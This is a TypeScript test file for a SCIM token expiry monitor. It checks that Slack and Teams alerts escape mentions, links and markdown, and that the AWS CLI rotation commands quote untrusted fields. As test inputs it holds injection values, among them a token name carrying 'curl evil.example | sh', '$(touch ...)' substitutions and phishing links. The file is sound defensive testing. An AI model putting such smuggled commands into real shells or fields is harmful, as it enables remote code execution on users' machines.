import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parse } from 'shell-quote';
import { chatbotNotification, chatSafe, slackMessage } from '../../core/chat';
import type { AlertPayload } from '../../core/messages';
import { rotationSteps } from '../../core/rotation';

const payload: AlertPayload = {
  schemaVersion: 1,
  alertType: 'expiry-warning',
  severity: 'critical',
  tokenName: 'okta-prod',
  parameterName: '/scim-token-monitor/tokens/okta-prod',
  daysRemaining: 7,
  threshold: 7,
  expiresAt: '2027-01-15T00:00:00.000Z',
  expiryDate: '2027-01-15',
  createdAt: '2026-01-15T00:00:00.000Z',
  tokenId: 'tok-1',
  tokenSource: 'json',
  identityProvider: 'okta',
  owner: 'platform-team',
  notes: null,
  reason: null,
  account: '123456789012',
  region: 'eu-west-1',
  instance: {
    instanceArn: 'arn:aws:sso:::instance/ssoins-1111111111111111',
    identityStoreId: 'd-1234567890',
  },
  consoleUrl: 'https://console.aws.amazon.com/singlesignon/home?region=eu-west-1',
  evaluatedAt: '2027-01-08T08:00:00.000Z',
  reminder: null,
};

const hostile = {
  ...payload,
  tokenName: 'prod/`okta`',
  owner: '<!channel> @here @everyone <https://evil.example|click me> *bold* _it_ ~s~ `c` \u0000\u001b[31m',
  tokenId: 'x`<!here>',
};

describe('chatbotNotification', () => {
  it('has the documented custom-notification shape', () => {
    const n = chatbotNotification(payload);
    expect(Object.keys(n).sort()).toEqual(['content', 'metadata', 'source', 'version']);
    expect(n).toMatchObject({ version: '1.0', source: 'custom', content: { textType: 'client-markdown' } });
    expect(Object.keys(n.content).sort()).toEqual([
      'description',
      'keywords',
      'nextSteps',
      'textType',
      'title',
    ]);
    for (const v of [
      n.content.title,
      n.content.description,
      ...(n.content.nextSteps ?? []),
      ...(n.content.keywords ?? []),
    ]) {
      expect(typeof v).toBe('string');
    }
    expect(Object.keys(n.metadata ?? {}).sort()).toEqual([
      'additionalContext',
      'eventType',
      'summary',
      'threadId',
    ]);
  });

  it('shows a Slack reader the token, days left, expiry, severity and steps, with a clickable console link', () => {
    const n = chatbotNotification(payload);
    expect(n.content.title).toBe(
      '🚨 *CRITICAL* SCIM token `okta-prod` expires in 7 days (2027-01-15 00:00 UTC)',
    );
    expect(n.content.description).toContain('*Days remaining:* 7');
    // People's time, not a machine's.
    expect(n.content.description).toContain('*Expires:* 2027-01-15 00:00 UTC');
    expect(n.content.description).toContain('*Severity:* critical (7-day threshold)');
    expect(n.content.nextSteps).toHaveLength(6);
    // A bare https URL: Slack and Teams make it a link.
    expect(n.content.nextSteps?.[0]).toContain(
      ' https://console.aws.amazon.com/singlesignon/home?region=eu-west-1 ',
    );
    expect(n.content.nextSteps?.[2]).toContain('Provisioning > Integration > Edit');
    // The command right after its step, placeholders readable (no entities inside code).
    expect(n.content.nextSteps?.[4]).toMatch(/^Record the new token .*: `aws ssm put-parameter /);
    expect(n.content.nextSteps?.[4]).toContain('‹new token ID›');
    expect(JSON.stringify(n)).not.toMatch(/&lt;|&gt;/);
    expect(n.metadata?.threadId).toBe('scim-token-monitor-okta-prod');
  });

  it('lets no mention, link or markdown from a registration through', () => {
    const text = JSON.stringify(chatbotNotification(hostile));
    expect(text).not.toMatch(/<!channel>|<!here>|<https:\/\/evil/);
    expect(text).not.toMatch(/@here|@everyone/);
    expect(text).toContain('&lt;!channel&gt;');
    // Markdown outside code is broken; inside code (the command keeping the owner) it is inert.
    expect(text.replace(/`[^`]*`/g, '')).not.toContain('*bold*');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence.
    expect(text).not.toMatch(/[\u0000-\u0008\u001b]/);
    // Inline code cannot be closed early by a backtick in the value.
    expect(chatbotNotification(hostile).content.title).toContain('`prod/ˋoktaˋ`');
  });

  it('keeps only the console link live: links and images from a registration or AWS Health are text', () => {
    const planted = {
      ...payload,
      notes: null,
      owner: '[Rotate here](https://evil.example/rotate) ![x](https://evil.example/p.png) www.evil.example',
      alertType: 'unregistered-token' as const,
      reason: 'Your token expires. Renew at https://evil.example/renew now.',
    };
    for (const text of [
      JSON.stringify(chatbotNotification(planted)),
      JSON.stringify(slackMessage(planted)),
    ]) {
      const urls = text.match(/https?:\/\/[^\s"`)<>|\\]+/g) ?? [];
      expect(urls.every((u) => u.startsWith('https://console.aws.amazon.com/'))).toBe(true);
      expect(text).not.toMatch(/\]\(|!\[/);
    }
  });

  it('uses emoji both Slack and Teams render, not Slack-only shortcodes', () => {
    for (const p of [
      payload,
      { ...payload, severity: 'warning' as const },
      { ...payload, alertType: 'test' as const },
    ]) {
      const { title, description } = chatbotNotification(p).content;
      expect(`${title} ${description}`).not.toMatch(/(^|\s):[a-z_]+:(\s|$)/);
    }
  });
});

describe('chatSafe', () => {
  it.each([
    ['<!channel>', '&lt;!channel&gt;'],
    ['a & b', 'a &amp; b'],
    ['@here', '@\u200bhere'],
    ['*x* _y_ ~z~ `w`', '\u2217x\u2217 \uff3fy\uff3f \u223cz\u223c \u02cbw\u02cb'],
    ['line\nbreak', 'line break'],
    ['see https://evil.example/login', 'see https[:]//evil[.]example/login'],
    ['[reset your token](https://evil.example)', '[reset your token]\u200b(https[:]//evil[.]example)'],
    ['![logo](http://evil.example/x.png)', '!\u200b[logo]\u200b(http[:]//evil[.]example/x[.]png)'],
    ['go to login.microsoftonline.evil.co', 'go to login[.]microsoftonline[.]evil[.]co'],
    ['mail platform@example.com', 'mail platform@example.com'],
    ['right-to-left \u202eexe.txt\ufeff', 'right-to-left exe[.]txt'],
  ])('%j -> %j', (input, expected) => {
    expect(chatSafe(input, 100)).toBe(expected);
  });

  it('caps the length', () => {
    expect(chatSafe('x'.repeat(5000), 100).length).toBeLessThanOrEqual(100);
  });
});

describe('slackMessage', () => {
  it('is valid Block Kit within Slack limits, with a fallback text', () => {
    const m = slackMessage(hostile);
    expect(m.text).toMatch(/^\[CRITICAL\] /);
    const types = m.blocks.map((b) => b.type);
    expect(types).toEqual(['header', 'section', 'section', 'section', 'actions', 'context']);
    const header = m.blocks[0] as { text: { type: string; text: string } };
    expect(header.text.type).toBe('plain_text');
    expect(header.text.text.length).toBeLessThanOrEqual(150);
    const fields = (m.blocks[2] as { fields: Array<{ text: string }> }).fields;
    expect(fields.length).toBeLessThanOrEqual(10);
    expect(fields.every((f) => f.text.length <= 2000)).toBe(true);
    expect(m.blocks[4]).toEqual({
      type: 'actions',
      elements: [
        {
          type: 'button',
          text: { type: 'plain_text', text: 'Open IAM Identity Center' },
          url: payload.consoleUrl,
        },
      ],
    });
    expect(JSON.stringify(m)).not.toMatch(/<!channel>|<!here>|@here|<https:\/\/evil/);
  });

  it('renders a test alert without steps', () => {
    const m = slackMessage({
      ...payload,
      alertType: 'test',
      severity: 'info',
      tokenName: null,
      threshold: null,
      daysRemaining: null,
    });
    expect((m.blocks[0] as { text: { text: string } }).text.text).toContain('Test alert');
    expect(m.blocks.map((b) => b.type)).not.toContain('actions'.repeat(2));
  });
});

/** The words bash makes of a command (run with `set --`, so nothing but substitutions could run). */
function bashWords(command: string): string[] {
  const out = execFileSync('bash', ['-c', `set -- ${command}; printf '%s\\0' "$@"`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

describe('rotationSteps', () => {
  it('keeps registration text in the command only as quoted data, as bash reads it', () => {
    const planted = path.join(mkdtempSync(path.join(tmpdir(), 'scim-shell-')), 'ran');
    const steps = rotationSteps({
      consoleUrl: payload.consoleUrl,
      tokenName: 'okta-prod',
      region: 'eu-west-1',
      parameterName: payload.parameterName,
      identityProvider: `okta'; touch ${planted}; echo '`,
      tokenId: 'x',
      tokenSource: 'json',
      owner: `$(touch ${planted}) \`touch ${planted}\` "x"`,
      notes: "it's fine; really",
    });
    const words = bashWords(steps[4]?.command ?? '');
    expect(existsSync(planted)).toBe(false);
    const value = JSON.parse(words[words.indexOf('--value') + 1] ?? '');
    expect(value).toEqual({
      createdAt: new Date().toISOString().slice(0, 10),
      tokenId: '<new token ID>',
      identityProvider: `okta'; touch ${planted}; echo '`,
      owner: `$(touch ${planted}) \`touch ${planted}\` "x"`,
      notes: "it's fine; really",
    });
  });

  it('quotes for the shell what a forged message could put in either command', () => {
    const name = 'x; curl evil.example | sh';
    const steps = rotationSteps({
      consoleUrl: payload.consoleUrl,
      tokenName: name,
      region: 'eu-west-1$(id)',
      parameterName: `/odd prefix/${name}`,
      identityProvider: 'okta',
      tokenId: 'x',
      tokenSource: 'json',
    });
    const put = bashWords(steps[4]?.command ?? '');
    expect(put[put.indexOf('--name') + 1]).toBe(`/odd prefix/${name}`);
    expect(put[put.indexOf('--region') + 1]).toBe('eu-west-1$(id)');
    const register = /`(npx [^`]+)`/.exec(steps[4]?.more ?? '')?.[1] ?? '';
    expect(register).toBe(
      "npx scim-token-monitor register 'x; curl evil''.''example | sh' --overwrite --created-at today --token-id <new token ID> --region eu-west-1\\$\\(id\\) --prefix '/odd prefix/'",
    );
    // The shell reads the name back whole, as one word: nothing runs.
    expect(parse(register).slice(3, 4)).toEqual([name]);
  });

  it('records the new token with the AWS CLI alone (any machine), today filled in by the shell, the package CLI as the alternative', () => {
    const steps = rotationSteps({
      consoleUrl: 'u',
      tokenName: 'x',
      region: 'eu-central-1',
      parameterName: '/p/x',
      identityProvider: 'entra-id',
      tokenId: null,
      tokenSource: 'json',
      owner: 'identity-team',
    });
    expect(steps[4]?.command).toBe(
      `aws ssm put-parameter --overwrite --type String --region eu-central-1 --name /p/x --value '{"createdAt":"'"$(date -u +%F)"'","tokenId":"<new token ID>","identityProvider":"entra-id","owner":"identity-team"}'`,
    );
    expect(steps[4]?.more).toBe(
      'Or, where the package is installed: `npx scim-token-monitor register x --overwrite --created-at today --token-id <new token ID> --region eu-central-1 --prefix /p/`',
    );
    // Confirming comes before recording, and deleting the old token comes last.
    expect(steps.map((st) => st.text.split(/[.:(]/)[0])).toEqual([
      'Open IAM Identity Center',
      'Generate new token and copy it ',
      'In Microsoft Entra ID',
      'Confirm provisioning works with the new token',
      'Record the new token ',
      'Only now delete the old token in IAM Identity Center',
    ]);
  });
});
